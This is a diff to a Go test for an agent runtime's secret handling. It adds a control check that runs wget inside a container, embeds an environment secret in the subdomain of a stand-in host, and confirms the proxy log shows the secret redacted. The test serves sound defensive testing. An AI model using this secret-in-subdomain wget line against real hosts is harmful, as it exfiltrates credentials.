@@ -337,6 +337,10 @@ func testSecret(t *testing.T, r *rig, runtime string) {
 		t.Fatalf("%q: %s", line, further.stderr.String())
 	}
 	checkSeen(t, agent, secrets)
+	r.run(t, "exec", "-e", byExec, agent.name, "sh", "-c", "wget -qO- http://$"+byExec+".refused.test/")
+	if log := r.mustRun(t, "logs", "--proxy", agent.name); !strings.Contains(log, "[secret].refused.test") {
+		t.Errorf("control: what a further command asks for is not in the proxy's log: %s", log)
+	}
 	init := agent.inspect(t).PIDs[0]
 	may := map[string][]int{
 		byName: {agent.cmd.Process.Pid, further.cmd.Process.Pid},
